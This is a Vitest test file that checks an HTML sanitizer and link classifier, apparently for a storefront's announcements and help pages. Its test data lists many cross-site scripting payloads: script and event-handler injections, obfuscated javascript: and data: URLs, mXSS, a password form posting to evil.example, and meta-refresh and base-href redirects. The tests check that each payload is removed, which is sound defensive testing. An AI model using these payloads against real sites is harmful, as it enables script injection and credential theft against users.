// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { linkKind } from './linkKind';
import { sanitizeAnnouncement, sanitizeLimitedHtml } from './sanitize';

/** The sanitised HTML parsed again, as the browser would see it once inserted. */
function render(html: string) {
  const host = document.createElement('div');
  host.innerHTML = sanitizeAnnouncement(html);
  return host;
}

/** Every attribute name and value left anywhere in the output. */
function attributes(host: Element) {
  return [...host.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].map((attribute) => `${attribute.name}=${attribute.value}`),
  );
}

const HOSTILE: [name: string, html: string][] = [
  ['script tag', '<script>window.__pwned = 1</script>'],
  ['script in svg', '<svg><script>window.__pwned = 1</script></svg>'],
  ['img onerror', '<img src="x" onerror="window.__pwned = 1">'],
  ['svg onload', '<svg onload="window.__pwned = 1"><circle r="4"></circle></svg>'],
  ['body onload', '<body onload="window.__pwned = 1">'],
  ['details ontoggle', '<details open ontoggle="window.__pwned = 1">x</details>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  [
    'form',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
  ],
  ['style element', '<style>body { display: none }</style>'],
  ['style attribute', '<div style="position:fixed;inset:0;z-index:9999">cover</div>'],
  ['class of the app', '<div class="backdrop">cover</div>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['math', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">'],
  ['DOM clobbering', '<img name="cookie" id="location" src="/cdn/a.png">'],
];

describe('sanitizeAnnouncement', () => {
  it.each(HOSTILE)('removes what could run or cover the page: %s', (_name, html) => {
    const host = render(html);
    expect(
      host.querySelector(
        'script, svg, math, iframe, object, embed, form, input, button, style, meta, base, link, body',
      ),
    ).toBeNull();
    for (const attribute of attributes(host)) {
      expect(attribute).not.toMatch(
        /^(on\w+|style|class|id|name|srcdoc|action|xlink:href)=|javascript:/i,
      );
    }
  });

  it.each([
    'javascript:window.__pwned=1',
    'JaVaScRiPt:window.__pwned=1',
    ' javascript:window.__pwned=1',
    'java\tscript:window.__pwned=1',
    'javascript&colon;window.__pwned=1',
    '&#106;avascript:window.__pwned=1',
    'vbscript:msgbox(1)',
    'data:text/html,<script>window.__pwned=1</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '//evil.example/m/home',
    '/\\evil.example/',
    'mailto:someone@example.com',
    'intent://scan/#Intent;scheme=zxing;end',
    '/wps/member/info',
    '../m/home',
  ])('drops the link %s but keeps its text', (href) => {
    const host = render(`<a href="${href}">Read more</a>`);
    const link = host.querySelector('a');
    expect(link?.textContent).toBe('Read more');
    expect(link?.hasAttribute('href')).toBe(false);
  });

  it('opens http(s) links in a new window that cannot reach this one', () => {
    const link = render(
      '<a href="https://www.example.com/x" target="_self">Rules</a>',
    ).querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://www.example.com/x');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('keeps /m/ links inside the storefront', () => {
    const link = render('<a href="/m/register" target="_blank">Join</a>').querySelector('a');
    expect(link?.getAttribute('href')).toBe('/m/register');
    expect(link?.hasAttribute('target')).toBe(false);
  });

  it('keeps images from http(s), this site and raster data, and drops others', () => {
    const host = render(
      '<img src="https://cdn.example/a.png" alt="a">' +
        '<img src="/cdn/DEMOVN/b.png" alt="b">' +
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="c">' +
        '<img src="javascript:alert(1)" alt="d">' +
        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="e">',
    );
    const sources = [...host.querySelectorAll('img')].map((image) => image.getAttribute('src'));
    expect(sources).toEqual([
      'https://cdn.example/a.png',
      '/cdn/DEMOVN/b.png',
      'data:image/png;base64,iVBORw0KGgo=',
      null,
      null,
    ]);
  });

  it('keeps the formatting and the text around removed parts', () => {
    const host = render(
      '<p>Deposit <strong>today</strong></p><script>x()</script><ul><li>one</li></ul>' +
        '<form><p>inside a form</p></form><details open ontoggle="x()">in details</details>',
    );
    expect(host.querySelector('p strong')?.textContent).toBe('today');
    expect(host.querySelector('ul li')?.textContent).toBe('one');
    expect(host.textContent).toContain('inside a form');
    expect(host.textContent).toContain('in details');
    expect(host.textContent).not.toContain('x()');
  });
});

describe('linkKind', () => {
  it.each([
    ['https://www.example.com/', 'external'],
    ['http://www.example.com/', 'external'],
    ['/m/activity?id=12', 'internal'],
    ['/cs/DEMOVN/1', 'blocked'],
    ['/m', 'blocked'],
    ['javascript:alert(1)', 'blocked'],
    ['ftp://files.example/', 'blocked'],
    ['', 'blocked'],
  ] as const)('%s is %s', (href, kind) => {
    expect(linkKind(href)).toBe(kind);
  });
});

describe('sanitizeLimitedHtml (help answers, news)', () => {
  function limited(html: string) {
    const host = document.createElement('div');
    host.innerHTML = sanitizeLimitedHtml(html);
    return host;
  }

  it('keeps the limited set: paragraphs, lists, emphasis, small headings, links', () => {
    const host = limited(
      '<h3>Title</h3><p><strong>a</strong> <em>b</em></p><ul><li>c</li></ul><a href="/m/rewardCenter">d</a>',
    );
    expect(host.querySelector('h3')?.textContent).toBe('Title');
    expect(host.querySelector('a')?.getAttribute('href')).toBe('/m/rewardCenter');
    expect(host.querySelectorAll('li')).toHaveLength(1);
  });

  it('drops what the limited set has not: images, tables, scripts, handlers', () => {
    const host = limited(
      '<img src="/x.png"><table><tr><td>t</td></tr></table><script>1</script><p onclick="x()">p</p>',
    );
    expect(host.querySelector('img, table, script')).toBeNull();
    expect(host.querySelector('p')?.getAttribute('onclick')).toBeNull();
    expect(host.textContent).toContain('p');
  });

  it('takes the address off links outside the storefront that are not https', () => {
    const host = limited(
      '<a href="http://plain.example/">a</a><a href="javascript:alert(1)">b</a><a href="https://ok.example/">c</a>',
    );
    const hrefs = [...host.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(hrefs).toEqual([null, null, 'https://ok.example/']);
  });
});
